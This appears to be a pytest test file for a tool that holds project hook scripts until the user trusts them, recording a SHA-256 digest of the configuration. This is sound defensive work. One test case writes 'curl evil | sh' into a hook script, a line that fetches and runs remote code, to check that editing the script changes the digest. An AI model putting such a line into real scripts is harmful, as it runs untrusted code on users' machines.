"""Trust for project hooks: the digest follows the configuration; the store records it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hookloop.command_hooks.config import load_hook_config
from hookloop.command_hooks.trust import (
    TrustStoreError,
    apply_trust,
    is_trusted,
    project_config_digest,
    trust,
    trust_store_path,
    untrust,
)


@pytest.fixture
def layout(tmp_path: Path) -> tuple[Path, Path, Path]:
    """(project, home, hookloop home) with one project hook, one user hook and a referenced project script."""
    project, home, own = tmp_path / "project", tmp_path / "home", tmp_path / "own"
    hooks_dir = project / ".claude" / "hooks"
    hooks_dir.mkdir(parents=True)
    (hooks_dir / "guard.sh").write_text("#!/bin/sh\nexit 0\n")
    (project / ".claude" / "settings.json").write_text(
        json.dumps(
            {
                "permissions": {"allow": []},
                "hooks": {
                    "PreToolUse": [
                        {"hooks": [{"type": "command", "command": '"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh'}]}
                    ]
                },
            }
        )
    )
    (own).mkdir()
    (own / "settings.json").write_text(
        json.dumps({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "u"}]}]}})
    )
    return project, home, own


def edit_settings(project: Path, change: dict[str, object]) -> None:
    path = project / ".claude" / "settings.json"
    data = json.loads(path.read_text())
    data.update(change)
    path.write_text(json.dumps(data))


def test_digest_is_stable_and_ignores_non_hook_settings(layout: tuple[Path, Path, Path]) -> None:
    project, _, _ = layout
    first = project_config_digest(project)
    assert first.startswith("sha256:")
    assert project_config_digest(project) == first
    edit_settings(project, {"permissions": {"allow": ["Bash(ls)"]}})
    assert project_config_digest(project) == first


@pytest.mark.parametrize(
    "change",
    [
        "edit-hooks",
        "edit-referenced-script",
        "add-local-settings",
        "add-hookloop-settings",
        "add-cline-script",
        "edit-cline-script",
        "chmod-cline-script",
        "break-json",
    ],
)
def test_digest_changes_when_the_configuration_changes(layout: tuple[Path, Path, Path], change: str) -> None:
    project, _, _ = layout
    cline = project / ".clinerules" / "hooks" / "PreToolUse"
    if change in ("edit-cline-script", "chmod-cline-script"):
        cline.parent.mkdir(parents=True)
        cline.write_text("#!/bin/sh\necho '{}'\n")
        cline.chmod(0o755)
    before = project_config_digest(project)
    if change == "edit-hooks":
        edit_settings(project, {"hooks": {}})
    elif change == "edit-referenced-script":
        (project / ".claude" / "hooks" / "guard.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    elif change == "add-local-settings":
        (project / ".claude" / "settings.local.json").write_text('{"hooks": {}}')
    elif change == "add-hookloop-settings":
        (project / ".hookloop").mkdir()
        (project / ".hookloop" / "settings.json").write_text('{"hooks": {}}')
    elif change == "add-cline-script":
        cline.parent.mkdir(parents=True)
        cline.write_text("#!/bin/sh\n")
    elif change == "edit-cline-script":
        cline.write_text("#!/bin/sh\necho '{\"cancel\": true}'\n")
    elif change == "chmod-cline-script":
        cline.chmod(0o644)
    elif change == "break-json":
        (project / ".claude" / "settings.json").write_text("{broken")
    assert project_config_digest(project) != before


def test_trust_untrust_and_retrust(layout: tuple[Path, Path, Path]) -> None:
    project, _, own = layout
    assert not is_trusted(project, hookloop_home=own)
    digest = trust(project, hookloop_home=own)
    assert is_trusted(project, hookloop_home=own)
    assert digest == project_config_digest(project)
    stored = json.loads(trust_store_path(own).read_text())
    assert stored["version"] == 1
    assert stored["projects"][str(project.resolve())]["digest"] == digest
    edit_settings(project, {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "new"}]}]}})
    assert not is_trusted(project, hookloop_home=own)  # a changed configuration needs trust again
    trust(project, hookloop_home=own)
    assert is_trusted(project, hookloop_home=own)
    assert untrust(project, hookloop_home=own) is True
    assert untrust(project, hookloop_home=own) is False
    assert not is_trusted(project, hookloop_home=own)


def test_store_location_follows_hookloop_home(layout: tuple[Path, Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    project, _, own = layout
    monkeypatch.setenv("HOOKLOOP_HOME", str(own / "elsewhere"))
    assert trust_store_path() == own / "elsewhere" / "trusted.json"
    trust(project)
    assert (own / "elsewhere" / "trusted.json").is_file()
    assert is_trusted(project)


def test_corrupt_store_is_untrusted_and_not_overwritten(layout: tuple[Path, Path, Path]) -> None:
    project, _, own = layout
    store = trust_store_path(own)
    store.write_text("{not json")
    assert not is_trusted(project, hookloop_home=own)
    with pytest.raises(TrustStoreError, match=r"trusted\.json"):
        trust(project, hookloop_home=own)
    assert store.read_text() == "{not json"


def test_apply_trust_skips_project_hooks_until_trusted(layout: tuple[Path, Path, Path]) -> None:
    project, home, own = layout
    config = load_hook_config(project, home=home, hookloop_home=own, environ={})
    assert sorted(h.source.kind for h in config.hooks) == ["claude-project", "hookloop-user"]
    gated = apply_trust(config, project, hookloop_home=own)
    assert [h.source.kind for h in gated.hooks] == ["hookloop-user"]
    warning = gated.diagnostics[-1]
    assert warning.severity == "warning"
    assert "1 project hook(s) skipped" in warning.message
    trust(project, hookloop_home=own)
    assert apply_trust(config, project, hookloop_home=own) is config


def test_no_project_hooks_needs_no_trust(tmp_path: Path) -> None:
    project = tmp_path / "empty"
    project.mkdir()
    config = load_hook_config(project, home=tmp_path, hookloop_home=tmp_path / "own", environ={})
    assert apply_trust(config, project, hookloop_home=tmp_path / "own") is config
